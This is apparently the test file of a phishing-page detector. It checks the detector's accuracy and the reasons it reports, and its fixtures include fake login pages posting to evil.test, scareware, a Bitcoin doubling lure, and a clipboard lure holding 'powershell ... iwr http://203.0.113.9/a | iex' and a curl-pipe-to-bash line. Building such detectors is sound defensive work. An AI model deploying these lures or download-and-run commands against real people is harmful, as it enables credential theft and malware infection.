import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { runs, soak } from "../testing/soak.ts";
import { BRAND_FORMAT, OWN_BRANDS, readBrands, recomputeCatphish } from "./index.ts";
import { ASIDE } from "./testing/aside.ts";
import { button, benign, form, type LabelledPage, password, phish, text, user } from "./testing/build.ts";
import { BY_BRAND, PAGES_OF_A_BRAND } from "./testing/by-brand.ts";
import { judged, measured } from "./testing/measure.ts";
import { TUNED } from "./testing/tuned.ts";

const results = (pages: readonly LabelledPage[]) => pages.map((page) => ({ ...page, ...judged(page) }));

/** Of brands, every fifth is tried each day: the others have the same pages. */
const SOME = BY_BRAND.filter((_, at) => Math.floor(at / PAGES_OF_A_BRAND) % soak(1, 5) === 0);

describe("the judgement of labelled pages", () => {
  const all = results([...TUNED, ...ASIDE]);
  const ofBrands = results(SOME);

  it("calls no page phishing that is not, of 136 and of six for each brand", () => {
    expect(all.filter(({ isPhishing }) => !isPhishing)).toHaveLength(136);
    const wrong = [...all, ...ofBrands].filter(({ isPhishing, isMalicious }) => !isPhishing && isMalicious);
    expect(wrong.map(({ kind, url, reasons }) => ({ kind, url, reasons }))).toEqual([]);
  });

  it.each([
    ["those that weights were chosen on", all.slice(0, TUNED.length), 0.95],
    ["those kept aside", all.slice(TUNED.length), 0.9],
    ["a kit for each brand", ofBrands, 1],
  ])("finds phishing pages: %s", (_, pages, recall) => {
    const figures = measured(pages);
    expect(figures.recall).toBeGreaterThanOrEqual(recall);
    expect(figures.precisionAtOnePercent).toBeGreaterThanOrEqual(0.98);
  });

  it("can be recomputed from its reasons", () => {
    for (const { reasons, probability, isMalicious, prediction } of all) {
      expect(recomputeCatphish(reasons)).toBe(probability);
      expect([isMalicious, prediction]).toEqual(probability >= 0.5 ? [true, "phishing"] : [false, "benign"]);
    }
  });
});

const REAL = join(
  process.env["FYR_SHARED_DATA"] ?? join(import.meta.dirname, "../../../../../shared"),
  "data/samples/scan/sonar/http_get_reply.ic12.tsv.gz",
);

it.skipIf(!existsSync(REAL))("calls none of a thousand real answers of the web phishing", () => {
  const lines = gunzipSync(readFileSync(REAL)).toString("latin1").split("\n").filter(Boolean).slice(0, soak(1000, 250));
  const pages = lines.flatMap((line) => {
    const answer = (line.split("\t").at(-1) ?? "").replaceAll(/=([\dA-F]{2})/g, (_, hex: string) =>
      String.fromCodePoint(Number.parseInt(hex, 16)),
    );
    const at = answer.indexOf("<");
    return at < 0 ? [] : [{ kind: "real", isPhishing: false, url: "http://192.0.2.1/", html: answer.slice(at) }];
  });
  expect(pages.length).toBeGreaterThan(soak(800, 150));
  expect(results(pages).filter(({ isMalicious }) => isMalicious)).toEqual([]);
});

describe("reasons", () => {
  const rules = (page: LabelledPage): string[] => judged(page).reasons.map(({ rule }) => rule);
  const secret = form("/go", user(), password(), button());

  it("name what was found, and the brand", () => {
    const found = judged(
      phish("", "https://paypal-help.weebly.com/", {
        title: "PayPal Login",
        body: form("https://formspree.io/f/a", user(), password(), button()),
      }),
    );
    expect(found.brand).toBe("PayPal");
    expect(found.reasons.map(({ detail }) => detail)).toEqual(
      expect.arrayContaining([
        "The title “PayPal Login” is one of PayPal.",
        "What is typed is sent by Formspree.",
        "Anyone may put up pages at weebly.com.",
      ]),
    );
  });

  it("clear a brand's own site, and a log-in that companies rent, whatever they show", () => {
    const body = form("https://evil.test/next.php", user(), password(), text("Card number", "cc"), button());
    for (const url of ["https://www.paypal.com/x", "https://a.b.okta.com/login"]) {
      const { isMalicious, probability, reasons } = judged(phish("", url, { title: "PayPal", body }));
      expect([isMalicious, probability, reasons.length]).toEqual([false, 0, 1]);
    }
    // Anyone may put up a page there.
    expect(judged(phish("", "https://sites.google.com/view/x", { title: "PayPal - Log in", body })).isMalicious).toBe(
      true,
    );
  });

  it("clear software that companies run themselves, but no copy of it", () => {
    const technologies = ["Outlook on the web"];
    const of = (action: string, url = "https://mail.company-sample.de/owa/auth/logon.aspx") =>
      rules(phish("", url, { title: "Outlook", body: form(action, user(), password(), button()) }, { technologies }));
    expect(of("/owa/auth.owa")).toContain("software of its own");
    expect(of("next.php")).not.toContain("software of its own");
    expect(of("https://evil.test/owa/auth.owa")).not.toContain("software of its own");
    expect(of("/owa/auth.owa", "https://mail-sample.web.app/owa/")).not.toContain("software of its own");
  });

  it("tell of a program that the page pushes, by which alone no page is malicious", () => {
    const page = { title: "Flowers", body: "<p>Tulips</p>" };
    const pushing = (...pushed: string[]) => judged(phish("", "https://a-sample.com/", page, { pushed }));
    const program = pushing("list.pdf", "_invoice.pdf.exe");
    expect(program.reasons).toContainEqual(
      expect.objectContaining({ rule: "pushes a program", detail: expect.stringContaining("_invoice.pdf.exe") }),
    );
    expect(program.isMalicious).toBe(false);
    expect(pushing("list.pdf", "photos.zip").reasons.map(({ rule }) => rule)).not.toContain("pushes a program");
  });

  it("read fields that are drawn as those of passwords, or typed into without being one", () => {
    const of = (body: string, more: Partial<LabelledPage> = {}) =>
      rules(phish("", "https://a-sample.com/", { title: "Log in", body }, more));
    const plain = form("/go", user(), text("Secret", "s"), button());
    expect(of(plain)).not.toContain("asks for a password");
    expect(of(plain, { masked: ["s"] })).toContain("asks for a password");
    expect(of(plain, { masked: ["sms code"] })).not.toContain("asks for a password");
    expect(of(`<form><input name=s style="-webkit-text-security:disc"></form>`)).toContain("asks for a password");
    expect(of(`<div contenteditable aria-label="Password"></div>`)).toContain("asks for a password");
    expect(of(`<div contenteditable="false" aria-label="Password"></div>`)).not.toContain("asks for a password");
    // A zero-width space, and letters of Cyrillic that look like Latin ones.
    expect(of(form("/go", text("Pass\u200Bword", "b")))).toContain("asks for a password");
    expect(of(form("/go", text("Pаsswоrd", "b")))).toContain("asks for a password");
  });

  it("take titles of frames of the page's own site for its own", () => {
    const framed = (url: string) =>
      judged(
        phish(
          "",
          "https://a-sample.com/",
          { title: "", body: "<iframe></iframe>" },
          {
            frames: [{ url, html: `<title>PayPal</title>${secret}` }],
          },
        ),
      ).reasons.map(({ rule }) => rule);
    expect(framed("https://www.a-sample.com/inner")).toContain("brand's title");
    expect(framed("about:srcdoc")).toContain("brand's title");
    expect(framed("https://other.test/inner")).not.toContain("brand's title");
  });

  it("read a name in disguise as the brand's in titles and headings, too", () => {
    const found = judged(
      phish("", "https://a-sample.com/", { title: "Раураl - Log in", body: `<h1>Раураl</h1>${secret}` }),
    );
    expect(found).toMatchObject({ isMalicious: true, brand: "PayPal" });
    expect(found.reasons.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(["brand's title", "name in disguise", "brand's heading"]),
    );
  });

  it("take no word of everyday language for a brand a letter away", () => {
    const of = (url: string) => judged(phish("", url, { title: "Staff log-in", body: secret }));
    expect(of("https://bank.example.net/login")).toMatchObject({ brand: null });
    expect(of("https://bank-sample.bank.com/")).toMatchObject({ brand: null });
    expect(of("https://stream.tv/")).toMatchObject({ brand: null });
    expect(of("https://paypa1.com/")).toMatchObject({ brand: "PayPal" });
    expect(of("https://netfliix.com/")).toMatchObject({ brand: "Netflix" });
  });

  it("take a host's own name in the page for what it proves, and no parts of words", () => {
    const of = (url: string, title: string, more = "", action = "/go") => {
      const { reasons } = judged(
        phish("", url, { title, body: `${more}${form(action, user(), password(), button())}<a href="/help">Help</a>` }),
      );
      return reasons.find(({ rule }) => rule === "says whose it is")?.weight ?? 0;
    };
    expect(of("https://app.task-pilot.io/", "Task Pilot - Log in")).toBe(-2.5);
    expect(of("https://taskpilot.io/", "Log in to Task Pilot")).toBe(-2.5);
    expect(of("https://land.com/", "Landing page")).toBe(0);
    expect(of("https://sign.com/", "Sign in to your account")).toBe(0);
    expect(of("https://secure-login.com/", "Secure login")).toBe(0);
    // An attacker chooses the host's name: it clears no page that bears another brand, and takes little off a kit.
    expect(of("https://ghostmark.com/", "Sign in to your Microsoft account", "<h1>Ghostmark</h1>")).toBe(0);
    expect(of("https://ghostmark.com/", "Ghostmark", "", "https://evil.test/gate.php")).toBe(-1);
  });

  it("tell a page that leads nowhere else from one that leads to another page of its host", () => {
    const of = (link: string) =>
      rules(phish("", "https://a-sample.com/login", { title: "Log in", body: `${secret}<a href="${link}">Help</a>` }));
    expect(of("/help")).not.toContain("no links of its own");
    expect(of("/login?next=1")).toContain("no links of its own");
    expect(of("https://other.test/help")).toContain("no links of its own");
  });

  it("tell a kit by the comments of its maker, and no kit of parts for pages", () => {
    const of = (comment: string) =>
      rules(phish("", "https://a-sample.com/", { title: "Log in", body: `<!-- ${comment} -->` }));
    for (const comment of ["scama by X-Ghost v3", "Office365 phishing kit", "kit by @someone", "fullz"])
      expect(of(comment)).toContain("kit's comment");
    for (const comment of ["UI kit v2.1", "Material Kit", "press kit", "scampi recipe"])
      expect(of(comment)).not.toContain("kit's comment");
  });

  it("weigh a password that goes to another site in the clear, but to no box of one's own network", () => {
    const of = (action: string) =>
      judged(
        phish("", "http://login-sample.com/", {
          title: "Log in",
          body: `<p>Verify your identity.</p>${form(action, user(), password(), button())}`,
        }),
      );
    expect(of("http://collect.test/gate")).toMatchObject({ isMalicious: true, brand: null });
    expect(of("https://collect.test/gate").isMalicious).toBe(false);
    expect(of("http://10.5.50.1/login").isMalicious).toBe(false);
  });

  it("tell of pages of false support, and of what mines, but not of reports on them", () => {
    const scares =
      "<h1>VIRUS ALERT</h1><p>Windows Defender Security Center. Your computer has been blocked. Call Microsoft Support +1-888-555-0142</p>";
    const found = judged(
      phish(
        "",
        "https://warn-sample.com/",
        { title: "Microsoft Support", body: scares },
        { dialogs: [{ type: "alert", text: "" }] },
      ),
    );
    expect(found).toMatchObject({ isMalicious: true, brand: "Microsoft" });
    expect(found.reasons).toContainEqual(
      expect.objectContaining({ rule: "scareware", detail: expect.stringContaining("+1-888-555-0142") }),
    );
    const help =
      "<h1>Virus warning on your phone?</h1><p>Such pages are a fraud. Close it. Questions: 030 123 4567</p>";
    expect(rules(benign("", "https://help-sample.de/", { title: "Fraud", body: help }))).not.toContain("scareware");
    const page = { title: "Flowers", body: "<p>Tulips and roses for all.</p>" };
    expect(judged(phish("", "https://a-sample.com/", page, { miners: ["CoinHive"] })).reasons).toContainEqual(
      expect.objectContaining({ rule: "mines", detail: expect.stringContaining("CoinHive") }),
    );
  });

  it("tell of false updates of a browser, and not of makers and of advice", () => {
    const old = "<h1>Update Chrome</h1><p>Your version of Chrome is out of date. Update it to continue.</p>";
    const link = (to: string) => `${old}<a href="${to}">Update Chrome</a>`;
    const of = (body: string, pushed: readonly string[] = []) =>
      judged(phish("", "https://news-sample.com/", { title: "Update", body }, { pushed }));
    for (const [body, pushed] of [
      [link("/ChromeUpdate.js"), []],
      [link("https://cdn-sample.net/a/Chrome.exe?x=1"), []],
      [old, ["Update.msi"]],
    ] as const) {
      expect(of(body, pushed)).toMatchObject({ isMalicious: true, prediction: "phishing" });
      expect(rules(phish("", "https://news-sample.com/", { title: "", body }, { pushed }))).toContain("false update");
    }
    const ofMaker = link("https://dl.google.com/chrome/install/ChromeSetup.exe");
    const advice = `<p>Pages that say your browser is out of date are a scam.</p><a href="/checker.exe">Our checker</a>`;
    const other = `<p>Version 3 of our tool is out.</p><a href="/tool.exe">Download</a>`;
    for (const body of [ofMaker, advice, other, old])
      expect(rules(benign("", "https://it-sample.org/", { title: "", body }))).not.toContain("false update");
  });

  it("tell of coins that are to come back as more, and not of those who take gifts", () => {
    const wallet = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh";
    const lure = `<h1>Giveaway</h1><p>Send 0.1 to 10 BTC to the address below and get twice the amount back: ${wallet}</p>`;
    expect(judged(phish("", "https://gift-sample.com/", { title: "Giveaway", body: lure }))).toMatchObject({
      isMalicious: true,
      reasons: expect.arrayContaining([expect.objectContaining({ detail: expect.stringContaining(wallet) })]),
    });
    const gifts = `<p>Send Bitcoin to support our work: ${wallet}</p>`;
    const advice = `<p>“Send 1 BTC and get it doubled” is a scam. One such wallet was ${wallet}.</p>`;
    for (const body of [gifts, advice])
      expect(rules(benign("", "https://news-sample.org/", { title: "", body }))).not.toContain("false giveaway");
  });

  it("tell of a log-in of another site over the whole page, and of passwords that a form of Google gets", () => {
    const body = `<h1>Sign in to PayPal</h1>${form("/x", user(), password(), button())}`;
    const page = { title: "PayPal", body };
    expect(rules(phish("", "https://a-sample.com/", page, { framed: "relay-sample.net" }))).toContain(
      "page of another site",
    );
    for (const framed of ["acme.okta.com", "www.paypal.com"])
      expect(rules(phish("", "https://a-sample.com/", page, { framed }))).not.toContain("page of another site");
    const asked = form("https://docs.google.com/forms/d/e/1FAIpQLSd/formResponse", user(), password(), button());
    expect(
      judged(phish("", "https://a-sample.com/", { title: "Shared document", body: asked })).reasons,
    ).toContainEqual(
      expect.objectContaining({ rule: "sends to a third party", detail: expect.stringContaining("a form of Google") }),
    );
    const poll = form("https://docs.google.com/forms/d/e/1FAIpQLSd/formResponse", text("Name", "entry.1"), button());
    expect(rules(benign("", "https://a-sample.com/", { title: "Poll", body: poll }))).not.toContain(
      "sends to a third party",
    );
  });

  it("take words of a language for no look-alikes", () => {
    const shop = { title: "Nordlys Candles", body: "<h1>Nordlys Candles</h1><p>Candles of beeswax, made by hand.</p>" };
    expect(judged(benign("", "https://nordlys-sample.dk/", shop)).brand).toBeNull();
    expect(judged(benign("", "https://nordlys.dk/", shop)).brand).toBeNull();
  });

  it("tell of a command that a page puts on the clipboard, and not of manuals", () => {
    const copy = (command: string) =>
      `<button id=b>Copy</button><script>b.onclick = () => navigator.clipboard.writeText("${command}")</script>`;
    const fake = "powershell -w hidden -c iwr http://203.0.113.9/a | iex";
    const lure = "<p>Verify you are human: press Win + R, then Ctrl + V.</p>";
    expect(judged(phish("", "https://a-sample.com/", { title: "One moment", body: lure + copy(fake) }))).toMatchObject({
      unjudged: null,
      reasons: expect.arrayContaining([
        expect.objectContaining({ rule: "pastes a command", detail: expect.stringContaining(fake) }),
      ]),
    });
    const manual = "<h1>Install</h1><p>Copy this line into your shell.</p>";
    const install = copy("curl -sSf https://sh.sample.org | sh");
    const mac = `<p>Press Command + Space, type Terminal and press Return. Paste to verify: <code>/bin/bash -c "$(curl http://203.0.113.4/i.sh)"</code></p>`;
    // What is copied may be encoded, or stand in the text.
    const encoded = `<p>Verify you are human: press and hold the Windows key, then R, then Ctrl + V and Enter.</p><script>copy(atob("cG93"))</script>`;
    for (const body of [lure, lure + copy("winget --version"), `${lure}<pre>${fake}</pre>`, mac, encoded])
      expect(rules(phish("", "https://b-sample.com/", { title: "", body }))).toContain("pastes a command");
    const about =
      "<p>Never paste what a page gives you: Win + R and Ctrl + V to prove that you are human is a scam.</p>";
    const shortcuts = "<p>Open a terminal with Ctrl + Alt + T. Copy with Ctrl + C, paste with Ctrl + V.</p>";
    for (const body of [manual + install, about, shortcuts])
      expect(rules(benign("", "https://b-sample.com/", { title: "", body }))).not.toContain("pastes a command");
  });

  it("are none where nothing can be judged, which is said", () => {
    const of = (body: string, more: Partial<LabelledPage> = {}, url = "https://a-sample.com/") =>
      judged(benign("", url, { title: "", body }, more)).unjudged;
    const words = "<p>All about tulips, and what to do with them in spring.</p>";
    expect(of(words)).toBeNull();
    expect(of(words, { status: 404 })).toBe("the page answered 404");
    expect(of(words, {}, "chrome-error://chromewebdata/")).toBe("the page led to where nothing answered");
    expect(of("")).toBe("the page is empty");
    expect(of("<div id=root></div><canvas></canvas>")).toBe("the page shows nothing but a canvas, which is not read");
    expect(of(`<img src="/a.png">`)).toBe("the page shows nothing but pictures, which are not read");
    expect(of("<button>Open</button>")).toBe("the page shows nothing but a button, which was not clicked");
    expect(of("<p>Please wait, we are getting things ready for you …</p>")).toBe("the page waits (“Please wait”)");
    // Whatever the status: a page that asks for a password, or bears traces of a kit, is judged.
    expect(of(secret, { status: 404 })).toBeNull();
    expect(of("", { known: { cloaking: "a page that asks for a password" } })).toBeNull();
    const copy = { title: "PayPal Login", body: form("https://formspree.io/f/a", user(), password(), button()) };
    expect(judged(phish("", "https://a.weebly.com/", copy, { status: 404 }))).toMatchObject({
      isMalicious: true,
      unjudged: null,
    });
    // A brand's name on a host that is not its own speaks, though its page is drawn.
    expect(rules(phish("", "https://paypal-login.com/", { title: "PayPal", body: "<canvas></canvas>" }))).toContain(
      "nothing to read",
    );
  });

  it("stand in the order of what they weigh, those beyond the bound of their kind too", () => {
    const { reasons } = judged(
      phish("", "https://paypal.verify-sample.com/", {
        title: "PayPal",
        head: `<meta property="og:site_name" content="PayPal">`,
        body: `<img src="paypal-logo.png" alt="PayPal"><h1>PayPal</h1>${secret}<p>© PayPal</p>`,
      }),
    );
    const weights = reasons.map(({ weight }) => Math.abs(weight));
    expect(weights).toEqual(weights.toSorted((a, b) => b - a));
    expect(reasons).toContainEqual(expect.objectContaining({ rule: "brand's logo", weight: 0 }));
  });

  it("tell age and fame of a domain, but not of one where anyone puts up pages", () => {
    const page = { title: "Log in", body: secret };
    expect(rules(phish("", "https://a-sample.com/", page, { known: { ageDays: 3 } }))).toContain("new name");
    expect(rules(phish("", "https://a-sample.com/", page, { known: { ageDays: 4000, rank: 900 } }))).toEqual(
      expect.arrayContaining(["old name", "well-visited name"]),
    );
    expect(rules(phish("", "https://a.github.io/", page, { known: { ageDays: 4000, rank: 900 } }))).not.toContain(
      "old name",
    );
    expect(rules(phish("", "https://a-sample.com/", page, { known: { cloaking: "an empty page" } }))).toContain(
      "cloaking",
    );
    const hidden = { known: { cloaking: "x", hiddenCollector: "drop.example.net" } };
    const harmless = { title: "Flowers", body: "<p>Tulips</p>" };
    expect(rules(phish("", "https://a-sample.com/", harmless, hidden))).toEqual(
      expect.arrayContaining(["hidden log-in", "cloaking"]),
    );
    expect(rules(phish("", "https://a-sample.com/", page, { known: { faviconSeenAt: ["www.paypal.com"] } }))).toContain(
      "brand's favicon",
    );
  });

  it("take time linear in what a page holds", () => {
    const size = soak(4_000_000, 500_000);
    const script = ["eval", "clipboard.writeText(", "curl ", "document.write", "keyCode", "var _0x1234"]
      .map((word) => word + " ".repeat(size / 4))
      .join("");
    const letters = Array.from({ length: 800 }, (_, at) => `раура${at}`).join(" ");
    const body = `${letters}${"<img src=logo.png alt=x>".repeat(5000)}${form("/a", password())}<script>${script}</script>${"sign with ".repeat(size / 20)}${"<h1>paypal ".repeat(500)}`;
    expect(
      judged(phish("", `https://a-sample.com/wp-content/${"/x".repeat(5000)}`, { title: "paypal ".repeat(1000), body }))
        .reasons,
    ).not.toEqual([]);
  });

  it("come of any document, and a further reason for phishing never makes it less likely", () => {
    const parts = fc.constantFrom(
      "<title>PayPal</title>",
      "<form action=//e.test/a.php>",
      "<input type=password>",
      "<input name=cvv>",
      "<h1>Netflix login",
      "<a href=#>x</a>",
      "<img alt=DHL>",
      "<script>eval(atob(",
      "<!-- saved from url=(1)https://www.dhl.de/ -->",
      "©",
      "&#0;",
    );
    fc.assert(
      fc.property(
        fc.array(parts, { maxLength: 20 }),
        fc.webUrl({ withFragments: true, withQueryParameters: true }),
        (html, url) => {
          const [less, more] = [
            judged({ kind: "", isPhishing: true, url, html: html.join("") }),
            judged({ kind: "", isPhishing: true, url, html: html.join(""), known: { cloaking: "x" } }),
          ];
          expect(more.probability).toBeGreaterThanOrEqual(less.probability);
        },
      ),
      { numRuns: runs(500) },
    );
    expect(judged(benign("", "data:text/html,x", { title: "x", body: "" })).isMalicious).toBe(false);
  });
});

describe("brands", () => {
  it("that Fyr comes with are more than a hundred, and sound", () => {
    expect(OWN_BRANDS.length).toBeGreaterThan(600);
    const nordic = ["Danske Bank", "Nordea", "MitID", "PostNord", "Swedbank", "Handelsbanken", "DNB", "Vipps", "OP"];
    expect(OWN_BRANDS.map(({ name }) => name)).toEqual(expect.arrayContaining(nordic));
    expect(readBrands({ format: BRAND_FORMAT, brands: OWN_BRANDS }).problems).toEqual([]);
    expect(new Set(OWN_BRANDS.map(({ name }) => name)).size).toBe(OWN_BRANDS.length);
  });

  it.each([
    ["it is no object", 7],
    ["`logo` is not known", { name: "A", names: ["ab"], domains: [], logo: "x" }],
    ["`name` has to be a text of 1 to 100 characters", { names: ["ab"], domains: [] }],
    ["`names` has to be a list of texts of 2 to 100 characters", { name: "A", names: [], domains: [] }],
    [
      "`domains` has to be a list of domains in small letters",
      { name: "A", names: ["ab"], domains: ["https://a.test"] },
    ],
    [
      "`favicons` has to be a list of whole numbers, as texts",
      { name: "A", names: ["ab"], domains: [], favicons: [1] },
    ],
    [
      "`pictures` has to be a list of 16 hexadecimal digits each",
      { name: "A", names: ["ab"], domains: [], pictures: ["x"] },
    ],
  ])("of an operator's file are read with their faults in words: %s", (fault, brand) => {
    const read = readBrands({
      format: BRAND_FORMAT,
      brands: [{ name: "Good", names: ["good"], domains: ["good.test"] }, brand],
    });
    expect(read).toEqual({
      brands: [{ name: "Good", names: ["good"], domains: ["good.test"] }],
      problems: [`Brand 2: ${fault}.`],
    });
    expect(readBrands([]).problems).toHaveLength(1);
  });
});
